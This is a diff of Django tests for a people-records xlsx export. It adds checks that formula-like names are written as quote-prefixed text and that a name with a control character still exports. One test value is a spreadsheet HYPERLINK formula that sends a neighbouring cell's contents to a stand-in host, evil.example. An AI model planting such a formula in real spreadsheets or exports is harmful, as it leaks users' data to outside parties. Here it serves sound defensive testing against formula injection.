@@ -6,7 +6,7 @@ import pytest
 from django.urls import reverse
 from pytest_django.asserts import assertContains, assertNotContains
 
-from core.tests.utils import sheet_title, xlsx_rows
+from core.tests.utils import sheet_title, xlsx_rows, xlsx_text_cells
 from people.models import PersonViewLog
 from people.tests.factories import PersonFactory, PositionFactory
 
@@ -344,3 +344,29 @@ def test_export_query_count_does_not_grow_with_rows(
         response = client.get(EXPORT)
 
     assert len(xlsx_rows(response)) == n + 1
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"ok")'
+
+
+def test_export_writes_a_formula_like_name_as_text(client, coordinator, school):
+    PersonFactory(organization=school, last_name=FORMULA, first_name="+1")
+    client.force_login(coordinator)
+
+    response = client.get(EXPORT)
+
+    for text in (FORMULA, "+1"):
+        (cell,) = xlsx_text_cells(response, text)
+        assert (cell.data_type, cell.quotePrefix) == ("s", True)
+
+
+def test_export_of_a_name_with_a_control_character_saved_before_the_check(
+    client, coordinator, school
+):
+    PersonFactory(organization=school, last_name="Ива\x07нов")
+    client.force_login(coordinator)
+
+    response = client.get(EXPORT)
+
+    assert response.status_code == 200
+    assert xlsx_text_cells(response, "Иванов")
